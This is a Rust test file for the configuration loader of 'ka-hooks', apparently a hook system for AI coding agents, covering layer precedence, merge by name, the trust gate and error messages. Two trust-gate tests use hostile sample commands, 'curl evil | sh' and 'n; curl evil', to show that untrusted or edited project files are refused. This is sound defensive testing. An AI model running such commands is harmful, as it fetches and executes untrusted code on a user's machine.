//! Loading layers through the library: precedence, merge by name, trust gate, and every kind of
//! configuration error with its position.

use std::path::{Path, PathBuf};
use std::time::Duration;

use ka_hooks::config::{CheckReport, Config, ConfigError, Layer, LayerState, OnError};
use ka_hooks::Event;

use crate::support;

use support::Project as World;

/// The loaders and trust helpers these tests use.
impl World {
    fn project_file(&self) -> PathBuf {
        self.root.join(".ka/ka.toml")
    }

    /// Trust `file` as it is now (what `ka-hooks trust --yes` records), and only it.
    fn trust(&self, file: &Path) -> &Self {
        let opts = self.options(&self.root, false);
        let others: Vec<_> = [".ka/ka.toml", ".ka/ka.local.toml"]
            .into_iter()
            .filter(|rel| self.root.join(rel) != file && !self.exists_trusted(rel))
            .collect();
        ka_hooks::review::record_current(&opts).expect("trust");
        ka_hooks::trust::TrustStore::update(opts.paths.trust_file().as_deref(), |store| {
            for rel in &others {
                store.revoke(&self.root, rel);
            }
            (true, ())
        })
        .expect("revoke the others");
        self
    }

    fn exists_trusted(&self, rel: &str) -> bool {
        let store = ka_hooks::trust::TrustStore::load(Some(&self.data_dir.join("trust.json")));
        store.is_ok_and(|s| s.record(&self.root, rel).is_some())
    }

    /// Load without `--trust`: the gate decides. (`load` loads with `--trust`.)
    #[track_caller]
    fn load_gated(&self) -> Config {
        match Config::load(&self.options(&self.root, false)) {
            Ok(c) => c,
            Err(e) => panic!("load failed: {e}"),
        }
    }

    /// The errors `check` reports (a broken user file no longer fails `Config::load`: its last
    /// good version fails closed instead, see tests/layers_fail_closed.rs).
    #[track_caller]
    fn errors(&self) -> Vec<ConfigError> {
        let report = Config::check(&self.options(&self.root, true));
        assert!(!report.errors.is_empty(), "expected configuration errors");
        report.errors
    }

    fn check(&self) -> CheckReport {
        Config::check(&self.options(&self.root, false))
    }
}

fn names(config: &Config, event: Event) -> Vec<String> {
    config
        .hooks_for(event, Some("write"))
        .map(|h| h.name.clone())
        .collect()
}

const USER_FMT: &str = r#"
[[hooks]]
name = "fmt"
event = "post_tool_use"
tool = "write"
command = "cargo fmt"
"#;

#[test]
fn layers_run_user_then_project_then_local_in_file_order() {
    let w = World::new();
    w.user(
        r#"
[[hooks]]
name = "u1"
event = "pre_tool_use"
command = "true"
[[hooks]]
name = "u2"
event = "pre_tool_use"
command = "true 2"
"#,
    )
    .project(
        r#"
[[hooks]]
name = "p1"
event = "pre_tool_use"
command = "true 3"
"#,
    )
    .local(
        r#"
[[hooks]]
name = "l1"
event = "pre_tool_use"
command = "true 4"
"#,
    );
    let config = w.load();
    assert_eq!(names(&config, Event::PreToolUse), ["u1", "u2", "p1", "l1"]);
    let layers: Vec<Layer> = config.hooks.iter().map(|h| h.source.layer).collect();
    assert_eq!(
        layers,
        [Layer::User, Layer::User, Layer::Project, Layer::Local]
    );
    assert_eq!(config.hooks[1].source.index, 1);
    assert_eq!(config.hooks[1].source.line, 6);
}

#[test]
fn entry_with_same_name_merges_key_by_key_in_place() {
    let w = World::new();
    w.user(&format!(
        "{USER_FMT}\n[[hooks]]\nname = \"after\"\nevent = \"post_tool_use\"\ncommand = \"x\"\n"
    ))
    .project("[[hooks]]\nname = \"fmt\"\ntimeout = 5\non_error = \"block\"\n");
    let config = w.load();
    let fmt = config.hook("fmt").expect("fmt");
    assert_eq!(fmt.timeout, Duration::from_secs(5));
    assert_eq!(fmt.on_error, OnError::Block);
    assert_eq!(
        fmt.command, "cargo fmt",
        "unset keys keep the earlier value"
    );
    assert_eq!(fmt.source.layer, Layer::User, "keeps its place and origin");
    assert_eq!(fmt.overrides.len(), 1);
    assert_eq!(fmt.overrides[0].source.layer, Layer::Project);
    assert_eq!(fmt.overrides[0].keys, ["timeout", "on_error"]);
    assert_eq!(names(&config, Event::PostToolUse), ["fmt", "after"]);
}

/// The local file (the user's own, per project) turns off a project hook by name. It cannot turn
/// off the user's own hook: the merge is monotone, and that is refused, with a warning.
#[test]
fn enabled_false_by_name_in_the_local_file_disables_a_project_hook() {
    let w = World::new();
    w.project(USER_FMT)
        .local("[[hooks]]\nname = \"fmt\"\nenabled = false\n");
    let config = w.load();
    assert!(names(&config, Event::PostToolUse).is_empty());
    let fmt = config.hook("fmt").expect("still listed");
    assert!(!fmt.enabled);
    assert_eq!(fmt.overrides[0].source.layer, Layer::Local);

    let w = World::new();
    w.user(USER_FMT)
        .local("[[hooks]]\nname = \"fmt\"\nenabled = false\n");
    let config = w.load();
    assert_eq!(names(&config, Event::PostToolUse), ["fmt"]);
    assert!(config.hook("fmt").expect("fmt").overrides.is_empty());
    assert_eq!(config.refused.len(), 1, "{:?}", config.refused);
    assert!(config.warnings.contains(&config.refused[0]));
}

/// A later identical handler replaces an earlier one when it is as strong (here: a shorter
/// timeout that blocks when it runs out); one of another layer that guards less does not (de-duplication never
/// merges hooks of different layers into the weaker copy).
#[test]
fn identical_handlers_run_once_with_the_later_settings() {
    let w = World::new();
    w.user("[[hooks]]\nevent = \"stop\"\ncommand = \"notify\"\ntimeout = 3\n")
        .project(
            "[[hooks]]\nevent = \"stop\"\ncommand = \"notify\"\ntimeout = 2\non_error = \"block\"\n",
        );
    let config = w.load();
    let hooks: Vec<_> = config.hooks_for(Event::Stop, None).collect();
    assert_eq!(hooks.len(), 1);
    assert_eq!(hooks[0].timeout, Duration::from_secs(2));
    assert_eq!(hooks[0].source.layer, Layer::Project);
    assert_eq!(config.deduplicated.len(), 1);
    assert_eq!(config.deduplicated[0].source.layer, Layer::User);

    w.project("[[hooks]]\nevent = \"stop\"\ncommand = \"notify\"\ntimeout = 9\n");
    let config = w.load();
    let hooks: Vec<_> = config.hooks_for(Event::Stop, None).collect();
    assert_eq!(hooks.len(), 1);
    assert_eq!(hooks[0].timeout, Duration::from_secs(3));
    assert_eq!(hooks[0].source.layer, Layer::User);
    assert_eq!(config.deduplicated[0].source.layer, Layer::Project);
    assert_eq!(config.refused.len(), 1, "{:?}", config.refused);
}

#[test]
fn same_command_with_different_filters_is_not_deduplicated() {
    let w = World::new();
    w.user(
        "[[hooks]]\nevent = \"pre_tool_use\"\ntool = \"write\"\ncommand = \"g\"\n\
         [[hooks]]\nevent = \"pre_tool_use\"\ntool = \"edit\"\ncommand = \"g\"\n",
    );
    let config = w.load_gated();
    assert_eq!(config.hooks.len(), 2);
    assert!(config.deduplicated.is_empty());
    assert_eq!(config.hooks[0].name, "pre_tool_use#1");
    assert_eq!(config.hooks[1].name, "pre_tool_use#2");
}

#[test]
fn tool_globs_and_claude_matchers_select_tools() {
    let w = World::new();
    w.user(
        r#"
[[hooks]]
name = "mcp"
event = "pre_tool_use"
tool = ["mcp__*", "write"]
command = "a"
[[hooks]]
name = "names"
event = "pre_tool_use"
matcher = "Edit|Write"
command = "b"
[[hooks]]
name = "regex"
event = "pre_tool_use"
matcher = "^Bash.*"
command = "c"
[[hooks]]
name = "all"
event = "pre_tool_use"
matcher = "*"
command = "d"
"#,
    );
    let config = w.load_gated();
    let run = |tool: &str| -> Vec<String> {
        config
            .hooks_for(Event::PreToolUse, Some(tool))
            .map(|h| h.name.clone())
            .collect()
    };
    assert_eq!(run("mcp__github__x"), ["mcp", "all"]);
    // `Write` in a Claude-style matcher is Claude Code's name of ka's `write`: it matches it.
    assert_eq!(run("write"), ["mcp", "names", "all"]);
    assert_eq!(run("Write"), ["names", "all"]);
    assert_eq!(run("Edit"), ["names", "all"]);
    assert_eq!(run("BashOutput"), ["regex", "all"]);
    assert_eq!(
        run("edit"),
        ["mcp", "names", "all"],
        "ka's `edit` is Claude's `Edit`; in a guard `write` stands for every writer"
    );
    assert_eq!(run("EDIT"), ["all"], "matching is case-sensitive");
    assert_eq!(
        run("bash"),
        ["regex", "all"],
        "a regex is tried on every agent's spelling"
    );
}

#[test]
fn no_ka_dir_means_no_project_layers() {
    let w = World::new();
    w.user(USER_FMT);
    let elsewhere = tempfile::tempdir().expect("tempdir");
    let config = Config::load(&w.options(elsewhere.path(), false)).expect("load");
    assert_eq!(config.project_root, None);
    assert_eq!(config.layers.len(), 1);
    assert_eq!(config.hooks.len(), 1);
}

#[test]
fn nested_working_dir_finds_the_root() {
    let w = World::new();
    w.project("[[hooks]]\nevent = \"stop\"\ncommand = \"n\"\n");
    let nested = w.root.join("a/b/c");
    std::fs::create_dir_all(&nested).expect("mkdir");
    let config = Config::load(&w.options(&nested, true)).expect("load");
    assert_eq!(
        config
            .project_root
            .as_deref()
            .map(Path::canonicalize)
            .transpose()
            .ok()
            .flatten(),
        Some(w.root.canonicalize().expect("canon"))
    );
    assert_eq!(config.hooks.len(), 1);
}

#[test]
fn untrusted_project_file_is_skipped_whole_and_reported_with_the_fix() {
    let w = World::new();
    w.user(USER_FMT)
        .project("[[hooks]]\nevent = \"pre_tool_use\"\ncommand = \"evil\"\n");
    let config = w.load_gated();
    assert_eq!(config.hooks.len(), 1, "only the user hook");
    assert_eq!(config.untrusted.len(), 1);
    let u = &config.untrusted[0];
    assert_eq!(u.layer, Layer::Project);
    assert!(u.fix.starts_with("ka-hooks --project "), "{}", u.fix);
    assert!(u.fix.ends_with(" trust"), "{}", u.fix);
    assert!(u.to_string().contains("did not run"));
}

#[test]
fn untrusted_project_cannot_even_override_a_user_hook() {
    let w = World::new();
    w.user(USER_FMT)
        .project("[[hooks]]\nname = \"fmt\"\ncommand = \"curl evil | sh\"\n");
    let config = w.load_gated();
    assert_eq!(config.hook("fmt").expect("fmt").command, "cargo fmt");
}

#[test]
fn trusted_project_loads_and_an_edit_makes_it_stale() {
    let w = World::new();
    w.project("[[hooks]]\nevent = \"stop\"\ncommand = \"n\"\n");
    w.trust(&w.project_file());
    let config = w.load_gated();
    assert_eq!(config.hooks.len(), 1);
    assert!(config.untrusted.is_empty());
    assert_eq!(config.layers[0].state, LayerState::Loaded);

    w.project("[[hooks]]\nevent = \"stop\"\ncommand = \"n; curl evil\"\n");
    let config = w.load_gated();
    assert!(config.hooks.is_empty());
    assert_eq!(config.layers[0].state, LayerState::Stale);
    assert_eq!(
        config.untrusted[0].status,
        ka_hooks::trust::TrustStatus::Stale
    );
}

#[test]
fn local_file_is_gated_separately_from_the_project_file() {
    let w = World::new();
    w.project("[[hooks]]\nevent = \"stop\"\ncommand = \"p\"\n")
        .local("[[hooks]]\nevent = \"stop\"\ncommand = \"l\"\n");
    w.trust(&w.project_file());
    let config = w.load_gated();
    assert_eq!(config.hooks.len(), 1);
    assert_eq!(config.hooks[0].command, "p");
    assert_eq!(config.untrusted.len(), 1);
    assert_eq!(config.untrusted[0].layer, Layer::Local);
}

#[test]
fn trust_once_loads_for_one_run_without_recording() {
    let w = World::new();
    w.project("[[hooks]]\nevent = \"stop\"\ncommand = \"n\"\n");
    let config = w.load();
    assert_eq!(config.hooks.len(), 1);
    assert_eq!(config.layers[0].state, LayerState::TrustedOnce);
    let config = w.load_gated();
    assert!(config.hooks.is_empty(), "nothing was recorded");
}

#[test]
fn user_trusted_roots_trust_projects_below_them() {
    let w = World::new();
    let parent = w.root.parent().expect("parent").to_path_buf();
    w.user(&format!(
        "[hook_settings]\ntrusted_roots = [{:?}]\n",
        parent.to_string_lossy()
    ))
    .project("[[hooks]]\nevent = \"stop\"\ncommand = \"n\"\n");
    let config = w.load_gated();
    assert_eq!(config.hooks.len(), 1);
    assert_eq!(config.layers[1].state, LayerState::TrustedRoot);
}

#[test]
fn project_file_cannot_widen_the_trust_gate() {
    let w = World::new();
    w.project("[hook_settings]\ntrusted_roots = [\"/\"]\n");
    let errors = w.check().errors;
    assert_eq!(errors.len(), 1);
    assert_eq!(
        errors[0].key.as_deref(),
        Some("hook_settings.trusted_roots")
    );
    assert!(errors[0].message.contains("cannot change the trust gate"));
    assert_eq!(errors[0].line, Some(2));
}

#[test]
fn disable_all_in_the_user_file_turns_every_hook_off() {
    let w = World::new();
    w.user(&format!("[hook_settings]\ndisable_all = true\n{USER_FMT}"))
        .project("[[hooks]]\nevent = \"stop\"\ncommand = \"p\"\n");
    let config = w.load();
    assert!(!config.has_hooks(Event::PostToolUse));
    assert!(!config.has_hooks(Event::Stop));
    let why = config.settings.disabled.expect("disabled");
    assert!(why.contains("disable_all"), "{why}");
}

/// The merge is monotone: a project's `disable_all` and `timeout` apply to its own
/// hooks, never to the user's (before, its `disable_all` turned every user hook off).
#[test]
fn a_projects_settings_apply_to_its_own_hooks_only() {
    let w = World::new();
    w.user(USER_FMT).project(
        "[hook_settings]\ndisable_all = true\ntimeout = 90\n\
         [[hooks]]\nevent = \"stop\"\ncommand = \"p\"\n",
    );
    let config = w.load();
    assert!(config.settings.disabled.is_none());
    assert_eq!(names(&config, Event::PostToolUse), ["fmt"]);
    assert_eq!(
        config.hook("fmt").expect("fmt").timeout,
        Duration::from_secs(60)
    );
    assert!(!config.has_hooks(Event::Stop));
    assert!(
        config
            .warnings
            .iter()
            .any(|w| w.contains("turns off its own project's hooks only")),
        "{:?}",
        config.warnings
    );
    w.project("[hook_settings]\ntimeout = 90\n[[hooks]]\nevent = \"stop\"\ncommand = \"p\"\n");
    let config = w.load();
    assert_eq!(
        config.hook("fmt").expect("fmt").timeout,
        Duration::from_secs(60)
    );
    assert_eq!(
        config.hook("stop#1").expect("stop#1").timeout,
        Duration::from_secs(90)
    );
}

#[test]
fn ka_hooks_disable_env_turns_every_hook_off() {
    let w = World::new();
    w.user(USER_FMT);
    let mut opts = w.options(&w.root, false);
    opts.paths.disabled_by_env = true;
    let config = Config::load(&opts).expect("load");
    assert!(!config.has_hooks(Event::PostToolUse));
    assert_eq!(
        config.settings.disabled.as_deref(),
        Some("KA_HOOKS_DISABLE is set")
    );
}

#[test]
fn settings_timeout_is_the_default_and_hook_timeout_wins() {
    let w = World::new();
    w.user(
        "[hook_settings]\ntimeout = 7\n[[hooks]]\nevent = \"stop\"\ncommand = \"a\"\n\
         [[hooks]]\nevent = \"stop\"\ncommand = \"b\"\ntimeout = 0.5\n",
    );
    let config = w.load_gated();
    assert_eq!(config.hooks[0].timeout, Duration::from_secs(7));
    assert_eq!(config.hooks[1].timeout, Duration::from_millis(500));
    let origin = config
        .settings
        .provenance
        .get("timeout")
        .expect("provenance");
    assert!(origin.starts_with("user "), "{origin}");
}

#[test]
fn other_top_level_keys_of_ka_toml_are_ignored() {
    let w = World::new();
    w.user("model = \"x\"\n[permissions]\nmode = \"plan\"\n[[hooks]]\nevent = \"stop\"\ncommand = \"a\"\n");
    assert_eq!(w.load_gated().hooks.len(), 1);
}

// ---------------------------------------------------------------------------------------------
// Errors
// ---------------------------------------------------------------------------------------------

fn single_error(w: &World) -> ConfigError {
    let errors = w.errors();
    assert_eq!(errors.len(), 1, "{errors:#?}");
    errors.into_iter().next().expect("one")
}

#[test]
fn tool_on_a_non_tool_event_is_an_error_at_the_tool_key() {
    let w = World::new();
    w.user("[[hooks]]\nevent = \"stop\"\ntool = \"write\"\ncommand = \"a\"\n");
    let e = single_error(&w);
    assert_eq!(e.key.as_deref(), Some("hooks[0].tool"));
    assert_eq!((e.line, e.column), (Some(3), Some(8)));
    assert!(e
        .message
        .contains("only applies to pre_tool_use and post_tool_use"));
}

#[test]
fn wrong_type_names_file_line_key_and_expectation() {
    let w = World::new();
    w.user("[[hooks]]\nevent = \"stop\"\ncommand = \"a\"\n\n[[hooks]]\nevent = \"stop\"\ncommand = \"b\"\ntimeout = \"ten\"\n");
    let e = single_error(&w);
    assert_eq!(e.key.as_deref(), Some("hooks[1].timeout"));
    assert_eq!(e.line, Some(8));
    assert!(e
        .message
        .contains("expected a number of seconds, got a string"));
    let shown = e.to_string();
    assert!(
        shown.contains("ka.toml:8:11: `hooks[1].timeout`"),
        "{shown}"
    );
    assert!(shown.contains("help:"), "{shown}");
}

#[test]
fn non_positive_timeout_is_an_error() {
    let w = World::new();
    w.user("[[hooks]]\nevent = \"stop\"\ncommand = \"a\"\ntimeout = -5\n");
    let e = single_error(&w);
    assert!(
        e.message.contains("greater than 0, got -5"),
        "{}",
        e.message
    );
}

#[test]
fn unknown_key_in_a_hook_suggests_the_right_one() {
    let w = World::new();
    w.user("[[hooks]]\nevent = \"stop\"\ncommand = \"a\"\ntimout = 5\n");
    let e = single_error(&w);
    assert_eq!(e.key.as_deref(), Some("hooks[0].timout"));
    assert_eq!((e.line, e.column), (Some(4), Some(1)));
    assert!(e
        .help
        .as_deref()
        .unwrap_or("")
        .contains("did you mean `timeout`?"));
}

#[test]
fn missing_command_is_an_error_naming_the_entry() {
    let w = World::new();
    w.user("[[hooks]]\nevent = \"stop\"\n");
    let e = single_error(&w);
    assert_eq!(e.key.as_deref(), Some("hooks[0].command"));
    assert_eq!(e.line, Some(1));
    assert!(e.message.contains("missing `command`"));
}

#[test]
fn named_override_of_nothing_is_missing_its_command() {
    let w = World::new();
    w.user("[[hooks]]\nname = \"fmt\"\nevent = \"stop\"\n");
    let e = single_error(&w);
    assert!(
        e.message.contains("no earlier hook is named `fmt`"),
        "{}",
        e.message
    );
}

#[test]
fn unknown_event_lists_valid_names_and_suggests_the_closest() {
    let w = World::new();
    w.user("[[hooks]]\nevent = \"pre_tool_usee\"\ncommand = \"a\"\n");
    let e = single_error(&w);
    assert_eq!(e.message, "unknown event `pre_tool_usee`");
    let help = e.help.expect("help");
    assert!(help.starts_with("did you mean `pre_tool_use`?"), "{help}");
    assert!(help.contains("user_prompt_submit"), "{help}");
}

#[test]
fn claude_event_spellings_and_turn_end_are_accepted() {
    let w = World::new();
    w.user(
        "[[hooks]]\nevent = \"PreToolUse\"\ncommand = \"a\"\n\
         [[hooks]]\nevent = \"turn_end\"\ncommand = \"b\"\n",
    );
    let config = w.load_gated();
    assert_eq!(config.hooks[0].event, Event::PreToolUse);
    assert_eq!(config.hooks[1].event, Event::Stop);
}

#[test]
fn malformed_toml_reports_line_and_column() {
    let w = World::new();
    w.user("[[hooks]]\nevent = \"stop\"\ncommand = \"a\n");
    let e = single_error(&w);
    assert_eq!(e.line, Some(3));
    assert!(e.message.starts_with("invalid TOML"), "{}", e.message);
}

#[test]
fn every_error_of_every_layer_is_reported_at_once() {
    let w = World::new();
    w.user("[[hooks]]\nevent = \"stp\"\ncommand = 5\nbogus = 1\n")
        .project("[[hooks]]\nevent = \"stop\"\nenabled = \"yes\"\ncommand = \"a\"\n[hook_settings]\ntimeout = 0\n");
    let report = w.check();
    let keys: Vec<_> = report
        .errors
        .iter()
        .map(|e| e.key.clone().unwrap_or_default())
        .collect();
    assert_eq!(report.errors.len(), 5, "{keys:?}");
    for key in [
        "hooks[0].event",
        "hooks[0].command",
        "hooks[0].bogus",
        "hooks[0].enabled",
        "hook_settings.timeout",
    ] {
        assert!(keys.iter().any(|k| k == key), "{key} missing from {keys:?}");
    }
    assert!(report.config.is_none());
}

#[test]
fn check_validates_untrusted_layers_without_loading_them() {
    let w = World::new();
    w.project("[[hooks]]\nevent = \"stop\"\ncommand = \"a\"\n");
    let report = w.check();
    assert!(report.errors.is_empty());
    let config = report.config.expect("config");
    assert!(config.hooks.is_empty());
    assert_eq!(config.untrusted.len(), 1);
}

#[test]
fn tool_and_matcher_together_is_an_error() {
    let w = World::new();
    w.user("[[hooks]]\nevent = \"pre_tool_use\"\ntool = \"a\"\nmatcher = \"B\"\ncommand = \"c\"\n");
    let e = single_error(&w);
    assert!(e.message.contains("both `tool` and `matcher`"));
}

#[test]
fn invalid_matcher_regex_is_an_error() {
    let w = World::new();
    w.user("[[hooks]]\nevent = \"pre_tool_use\"\nmatcher = \"(unclosed\"\ncommand = \"c\"\n");
    let e = single_error(&w);
    assert!(
        e.message.starts_with("invalid matcher regex"),
        "{}",
        e.message
    );
}

#[test]
fn env_values_must_be_strings() {
    let w = World::new();
    w.user("[[hooks]]\nevent = \"stop\"\ncommand = \"c\"\nenv = { A = \"x\", B = 3 }\n");
    let e = single_error(&w);
    assert!(
        e.message.contains("`env.B` must be a string"),
        "{}",
        e.message
    );
}

#[test]
fn a_later_matcher_replaces_an_earlier_tool_filter() {
    let w = World::new();
    w.project(
        // Not a guard: in one, `Edit` stands for every writer (tool families).
        "[[hooks]]\nname = \"g\"\nevent = \"post_tool_use\"\ntool = \"write\"\ncommand = \"c\"\n",
    )
    .local("[[hooks]]\nname = \"g\"\nmatcher = \"Edit\"\n");
    let config = w.load();
    let g = config.hook("g").expect("g");
    assert!(g.matches_tool(Some("Edit")));
    assert!(g.matches_tool(Some("edit")));
    assert!(!g.matches_tool(Some("write")));
}

/// `hooks = [{...}, ...]` with `n` distinct stop hooks on one line, then `tail` before the `]`.
fn one_line_of_hooks(n: usize, tail: &str) -> String {
    let entries: Vec<String> = (0..n)
        .map(|i| format!("{{event=\"stop\",command=\"a{i}\"}}"))
        .collect();
    format!("hooks = [{}{tail}]\n", entries.join(","))
}

#[test]
fn forty_thousand_hooks_on_one_line_all_load() {
    // Over the old 1 MiB cap, under the 4 MiB one: every entry is a real, distinct hook.
    let text = one_line_of_hooks(40_000, "");
    assert!(text.len() > 1 << 20 && text.len() as u64 <= ka_hooks::config::MAX_CONFIG_BYTES);
    let w = World::new();
    w.user(&text);
    let report = w.check();
    assert!(report.errors.is_empty(), "{:?}", report.errors.first());
    let config = report.config.expect("config");
    assert_eq!(config.hooks.len(), 40_000);
    assert!(config.deduplicated.is_empty());
    assert_eq!(config.hooks[39_999].command, "a39999");
}

#[test]
fn an_error_at_the_end_of_a_long_line_names_its_column_in_chars() {
    // Multi-byte chars early on the line shift byte offsets, never char columns.
    let text = one_line_of_hooks(
        5_000,
        ",{event=\"stop\",command=\"é\"},{event=\"nope\",command=\"b\"}",
    );
    let w = World::new();
    w.user(&text);
    let errors = w.errors();
    assert_eq!(errors.len(), 1, "{errors:?}");
    let e = &errors[0];
    let byte = text.find("\"nope\"").expect("nope");
    let column = text[..byte].chars().count() + 1;
    assert_eq!(e.key.as_deref(), Some("hooks[5001].event"));
    assert_eq!((e.line, e.column), (Some(1), Some(column)));
    assert!(column < byte + 1, "the column counts chars, not bytes");
}
